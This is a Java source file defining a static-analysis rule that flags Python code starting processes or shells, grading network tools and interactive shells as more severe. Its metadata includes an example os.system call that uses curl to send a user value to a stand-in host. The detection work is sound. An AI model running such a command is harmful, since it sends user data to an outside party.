package dev.kingsnake.rules.process;

import dev.kingsnake.Confidence;
import dev.kingsnake.Severity;
import dev.kingsnake.rules.shared.CallUses;
import dev.kingsnake.spi.FindingSink;
import dev.kingsnake.spi.Location;
import dev.kingsnake.spi.PythonFile;
import dev.kingsnake.spi.PythonFileRule;
import dev.kingsnake.spi.RuleContext;
import dev.kingsnake.spi.RuleInfo;
import dev.kingsnake.spi.Tags;
import dev.kingsnake.spi.facts.Commands;
import dev.kingsnake.spi.python.Expr;

import java.util.Set;

/**
 * Starts a process, graded by what runs: an interactive shell or a network tool is MEDIUM/HIGH, any
 * other command LOW; constant calls of build and version-probing tools (gcc, git describe, pkg-config)
 * are not reported at all.
 */
public final class ShellCommandRule implements PythonFileRule {
    static final RuleInfo INFO = new RuleInfo("KS-PROCESS-SHELL",
            "Starts a process or shell (os.system/popen/subprocess/os.exec*/spawn*/pty.spawn), graded by "
                    + "the command: interactive shells and network tools weigh more",
            Severity.LOW, Confidence.MEDIUM, Set.of(Tags.PROCESS),
            "os.system('curl -s https://example.invalid/?u=' + user)",
            "Build helpers run compilers and version control: constant commands of known build/probe tools "
                    + "(gcc, cmake, git, pkg-config, sys.executable ...) are skipped; other commands are LOW "
                    + "(LOW confidence when not constant) and only count with other findings.");

    @Override
    public RuleInfo info() {
        return INFO;
    }

    @Override
    public void check(PythonFile file, RuleContext ctx, FindingSink sink) {
        CallUses.commands(file).forEach(use -> {
            Expr.Call c = use.call();
            Commands.Command cmd = use.value();
            if (cmd.benign()) {
                return;
            }
            Location at = Location.of(file, c);
            if (cmd.interactive()) {
                sink.report(at, cmd.sink() + "() starts an interactive shell", cmd.evidence(),
                        Severity.MEDIUM, Confidence.HIGH);
            } else if (cmd.networkTool()) {
                sink.report(at, cmd.sink() + "() runs a network tool", cmd.evidence(),
                        Severity.MEDIUM, Confidence.HIGH);
            } else if (cmd.computed()) {
                sink.report(at, cmd.sink() + "() runs a command computed at run time", cmd.evidence(),
                        Severity.LOW, Confidence.LOW);
            } else {
                sink.report(at, cmd.sink() + "() runs '" + cmd.tool() + "'", cmd.evidence());
            }
        });
    }
}
